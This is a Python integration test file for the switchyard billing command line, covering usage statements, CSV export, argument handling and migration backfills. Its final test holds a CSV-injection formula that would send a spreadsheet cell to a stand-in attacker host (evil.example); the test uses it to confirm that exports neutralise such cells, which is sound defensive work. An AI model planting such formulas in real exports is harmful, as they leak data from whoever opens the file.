"""`switchyard billing ...` on a real database, and the aggregates backfilled for entries recorded before
the aggregates existed (SQLite and PostgreSQL)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
import sqlalchemy as sa

from switchyard.billing.db import migrations
from switchyard.billing.models import CallUsageEntry, UsageDaily, UsageEntry
from switchyard.billing.reports import usage_report
from switchyard.billing.service import record_usage
from switchyard.cli.main import main
from switchyard.common.billing_rpc import UsageQuery
from switchyard.common.db import create_engine, sessionmaker
from switchyard.common.events import TaskCompleted, Usage
from switchyard.gateway.db import migrations as gateway_migrations
from switchyard.gateway.models import Tenant
from tests.support.prices import price_sheet

pytestmark = pytest.mark.integration


def _done(task_id: str, prompt: int, read: int = 0) -> TaskCompleted:
    return TaskCompleted(
        task_id=task_id,
        tenant_id="acme",
        user_id="u1",
        model="openai/gpt-4o-mini",
        provider="openai",
        tier="fast",
        content="ok",
        finish_reason="stop",
        usage=Usage(prompt_tokens=prompt, completion_tokens=7, cache_read_tokens=read),
        attempts=1,
        latency_ms=1.0,
        completed_at=datetime.now(UTC),
    )


async def _seed(url: str) -> None:
    await migrations().upgrade(url)
    engine = create_engine(url)
    try:
        for n, (prompt, read) in enumerate(((13, 0), (1001, 896), (77, 0))):
            await record_usage(
                sessionmaker(engine),
                event_id=f"e{n}",
                completed=_done(f"t{n}", prompt, read),
                policy=price_sheet(),
                clock=lambda: datetime(2026, 11, 5, 9, tzinfo=UTC),
            )
    finally:
        await engine.dispose()


def test_cli_prints_usage_statement_savings_and_forecast(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    asyncio.run(_seed(sqlite_url))
    db = ["billing", "--database-url", sqlite_url]

    assert main([*db, "statement", "--tenant", "acme", "--month", "2026-11", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    line, total = rows
    assert [line[k] for k in ("month", "model", "tier", "kind", "requests")] == [
        "2026-11",
        "openai/gpt-4o-mini",
        "fast",
        "task",
        "3",
    ]
    # (13 + 105 + 77) x 0.00015/1K + 896 prompt-cache hits x 0.000075/1K + 21 x 0.0006/1K
    assert total["model"] == "TOTAL" and Decimal(total["cost_usd"]) == Decimal("0.00010905")
    assert (line["prompt_tokens"], line["cache_read_tokens"], line["cache_write_tokens"]) == (
        "1091",
        "896",
        "0",
    )
    assert total["cache_read_tokens"] == "896"

    assert main([*db, "usage", "--tenant", "acme", "--from", "2026-11-01", "--to", "2026-11-30"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert [(r["day"], r["requests"]) for r in report["rows"]] == [("2026-11-05", 3)]

    assert main([*db, "savings", "--tenant", "acme", "--from", "2026-11-01", "--to", "2026-11-30"]) == 0
    assert Decimal(json.loads(capsys.readouterr().out)["saved_usd"]) > 0

    assert main([*db, "forecast", "--tenant", "acme", "--as-of", "2026-11-06"]) == 0
    assert Decimal(json.loads(capsys.readouterr().out)["spent_to_date_usd"]) == Decimal(
        "0.00010905"
    )  # the statement's total

    assert main([*db, "usage", "--tenant", "acme", "--group-by", "colour"]) == 2
    assert "group_by" in capsys.readouterr().err
    backwards = ["--from", "2026-11-30", "--to", "2026-11-01"]
    assert main([*db, "usage", "--tenant", "acme", *backwards]) == 2
    # it said "error: : Value error, ...", then "error: --from/--to: Value error, end is before start"
    assert capsys.readouterr().err == "switchyard billing: --to (2026-11-01) is before --from (2026-11-30)\n"
    assert main([*db, "usage", "--tenant", "acme", "--from", "2024-01-01", "--to", "2026-11-01"]) == 2
    said = capsys.readouterr().err
    assert said == "switchyard billing: --from to --to: at most two years (731 days) at a time\n"


def test_the_database_url_goes_before_or_after_the_action(
    sqlite_url: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """`switchyard billing usage --database-url URL ...` as `switchyard billing --database-url URL usage ...`:
    an option of the group was refused after its action ("unrecognized arguments: --database-url")."""
    asyncio.run(_seed(sqlite_url))
    asked = ["--tenant", "acme", "--from", "2026-11-01", "--to", "2026-11-30"]
    assert main(["billing", "usage", *asked, "--database-url", sqlite_url]) == 0
    report = json.loads(capsys.readouterr().out)
    assert [(r["day"], r["requests"]) for r in report["rows"]] == [("2026-11-05", 3)]
    # given twice, the one after the action (nearer the end of the line) holds, as argparse does for one
    elsewhere = f"sqlite+aiosqlite:///{tmp_path / 'elsewhere.db'}"
    assert main(["billing", "--database-url", elsewhere, "usage", *asked, "--database-url", sqlite_url]) == 0
    assert json.loads(capsys.readouterr().out)["totals"]["requests"] == 3


async def _name_org(url: str, tenant_id: str, name: str) -> None:
    await gateway_migrations().upgrade(url)
    engine = create_engine(url)
    try:
        async with sessionmaker(engine)() as session, session.begin():
            session.add(Tenant(id=tenant_id, name=name, created_at=datetime.now(UTC)))
    finally:
        await engine.dispose()


def test_tenant_is_an_organisations_id_or_its_name(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """`switchyard up`'s organisation is named `dev` (README) and its id is random: `--tenant dev` reads it,
    and a tenant no organisation has (a typo) says so instead of printing an empty statement unremarked."""
    asyncio.run(_seed(sqlite_url))
    asyncio.run(_name_org(sqlite_url, "acme", "ACME Inc."))
    db = ["billing", "--database-url", sqlite_url]
    assert main([*db, "statement", "--tenant", "ACME Inc.", "--month", "2026-11"]) == 0
    statement = json.loads(capsys.readouterr().out)
    assert statement["tenant_id"] == "acme" and statement["totals"]["requests"] == 3

    assert main([*db, "statement", "--tenant", "acne", "--month", "2026-11"]) == 0
    assert "no organisation has the id or name 'acne'" in capsys.readouterr().err


async def test_upgrade_backfills_aggregates_from_existing_entries(db_url: str) -> None:
    await migrations().upgrade(db_url, "bi0002")
    engine = create_engine(db_url)
    sessions = sessionmaker(engine)
    try:
        costs = [Decimal("0.0000001234"), Decimal("0.5000000001"), Decimal("0.1")]
        # entries as bi0002 stored them: the columns of that revision only
        columns = [
            "id",
            "task_id",
            "event_id",
            "tenant_id",
            "user_id",
            "model",
            "provider",
            "tier",
            "prompt_tokens",
            "completion_tokens",
            "cost_usd",
            "priced",
            "created_at",
        ]
        old_entries = sa.table(
            "usage_entries", *(sa.column(c, UsageEntry.__table__.c[c].type) for c in columns)
        )
        async with sessions() as session, session.begin():
            for n, cost in enumerate(costs):
                await session.execute(
                    sa.insert(old_entries).values(
                        id=f"id{n}",
                        task_id=f"t{n}",
                        event_id=f"e{n}",
                        tenant_id="acme",
                        user_id="u1",
                        model="openai/gpt-4o-mini",
                        provider="openai",
                        tier="fast",
                        prompt_tokens=10,
                        completion_tokens=1,
                        cost_usd=cost,
                        priced=True,
                        created_at=datetime(2026, 11, 3 + n % 2, 23, 59, tzinfo=UTC),
                    )
                )
        await migrations().upgrade(db_url)
        report = await usage_report(
            sessions,
            UsageQuery(
                tenant_id="acme", start=datetime(2026, 11, 1).date(), end=datetime(2026, 11, 30).date()
            ),
        )
    finally:
        await engine.dispose()
    assert [(str(r.day), r.requests) for r in report.rows] == [("2026-11-03", 2), ("2026-11-04", 1)]
    assert report.totals.cost_usd == sum(costs, Decimal(0))


async def test_upgrade_adds_the_cache_counts_of_entries_stored_at_bi0004_to_their_days(db_url: str) -> None:
    await migrations().upgrade(db_url, "bi0004")
    engine = create_engine(db_url)
    sessions = sessionmaker(engine)
    try:
        entry = {
            "id": "id1",
            "task_id": "t1",
            "event_id": "e1",
            "tenant_id": "acme",
            "user_id": "u1",
            "model": "openai/gpt-4o-mini",
            "provider": "openai",
            "tier": "fast",
            "prompt_tokens": 2000,
            "completion_tokens": 10,
            "cache_read_tokens": 1536,
            "cache_write_tokens": 0,
            "cost_usd": Decimal("0.000188"),
            "priced": True,
            "created_at": datetime(2026, 11, 3, 23, 59, tzinfo=UTC),
        }
        entries = sa.table("usage_entries", *(sa.column(c, UsageEntry.__table__.c[c].type) for c in entry))
        # its daily row, as bi0004 counted it: no cache columns yet
        day = {
            "tenant_id": "acme",
            "day": date(2026, 11, 3),
            "user_id": "u1",
            "model": "openai/gpt-4o-mini",
            "tier": "fast",
            "kind": "task",
            "requests": 1,
            "prompt_tokens": 2000,
            "completion_tokens": 10,
            "cost_e10": 1_880_000,
            "unpriced": 0,
        }
        days = sa.table("usage_daily", *(sa.column(c, UsageDaily.__table__.c[c].type) for c in day))
        async with sessions() as session, session.begin():
            await session.execute(sa.insert(entries).values(**entry))
            await session.execute(sa.insert(days).values(**day))
        await migrations().upgrade(db_url)
        report = await usage_report(
            sessions,
            UsageQuery(tenant_id="acme", start=date(2026, 11, 1), end=date(2026, 11, 30), group_by=["day"]),
        )
    finally:
        await engine.dispose()
    [row] = report.rows
    assert (row.requests, row.prompt_tokens, row.cache_read_tokens, row.cache_write_tokens) == (
        1,
        2000,
        1536,
        0,
    )
    assert report.totals.cache_read_tokens == 1536 and report.totals.cost_usd == Decimal("0.000188")


async def test_upgrade_counts_the_estimated_calls_stored_at_bi0005_in_their_days(db_url: str) -> None:
    """bi0006 adds the daily `estimated` count; a cut call stored before it (its counts the executor's
    estimate) is counted in its day's row, a counted one is not."""
    await migrations().upgrade(db_url, "bi0005")
    engine = create_engine(db_url)
    sessions = sessionmaker(engine)
    try:
        calls = []
        for n, estimated in ((1, True), (2, False)):
            calls.append(
                {
                    "id": f"c{n}",
                    "event_id": f"call-{n}",
                    "task_id": "t1",
                    "tenant_id": "acme",
                    "model": "openai/gpt-4o-mini",
                    "provider": "openai",
                    "outcome": "cancelled" if estimated else "ok",
                    "prompt_tokens": 100,
                    "completion_tokens": 5,
                    "cache_read_tokens": 0,
                    "cache_write_tokens": 0,
                    "usage_estimated": estimated,
                    "cost_usd": Decimal("0.000018"),
                    "priced": True,
                    "created_at": datetime(2026, 11, 3, 12, n, tzinfo=UTC),
                }
            )
        columns = CallUsageEntry.__table__.c
        entries = sa.table("call_usage_entries", *(sa.column(c, columns[c].type) for c in calls[0]))
        day = {
            "tenant_id": "acme",
            "day": date(2026, 11, 3),
            "user_id": "",
            "model": "openai/gpt-4o-mini",
            "tier": "call",
            "kind": "call",
            "requests": 2,
            "prompt_tokens": 200,
            "completion_tokens": 10,
            "cache_read_tokens": 0,
            "cache_write_tokens": 0,
            "cost_e10": 360_000,
            "unpriced": 0,
        }
        days = sa.table("usage_daily", *(sa.column(c, UsageDaily.__table__.c[c].type) for c in day))
        async with sessions() as session, session.begin():
            for call in calls:
                await session.execute(sa.insert(entries).values(**call))
            await session.execute(sa.insert(days).values(**day))
        await migrations().upgrade(db_url)
        report = await usage_report(
            sessions,
            UsageQuery(tenant_id="acme", start=date(2026, 11, 1), end=date(2026, 11, 30), group_by=["kind"]),
        )
    finally:
        await engine.dispose()
    [row] = report.rows
    assert (row.kind, row.requests, row.estimated) == ("call", 2, 1) and report.totals.estimated == 1


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """A task published on the bus names its own `user_id` and `api_key_id` (bus contract): one starting
    with `=`, `+`, `-`, `@` went into the usage CSV as it was, and a spreadsheet opening the billing team's
    export runs it as a formula (CSV injection, OWASP). Such a cell is written with a leading `'`."""
    asyncio.run(_seed(sqlite_url))
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"invoice")'

    async def seed_hostile() -> None:
        engine = create_engine(sqlite_url)
        try:
            done = _done("t9", 5).model_copy(update={"user_id": hostile, "api_key_id": "@SUM(1+1)"})
            await record_usage(
                sessionmaker(engine),
                event_id="e9",
                completed=done,
                policy=price_sheet(),
                clock=lambda: datetime(2026, 11, 5, 9, tzinfo=UTC),
            )
        finally:
            await engine.dispose()

    asyncio.run(seed_hostile())
    db = ["billing", "--database-url", sqlite_url, "usage", "--tenant", "acme"]
    assert main([*db, "--from", "2026-11-01", "--to", "2026-11-30", "--group-by", "user,key", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    cells = {(r["user"], r["key"]) for r in rows}
    assert ("'" + hostile, "'@SUM(1+1)") in cells, cells
    assert ("u1", "") in cells  # an ordinary id is written as it is
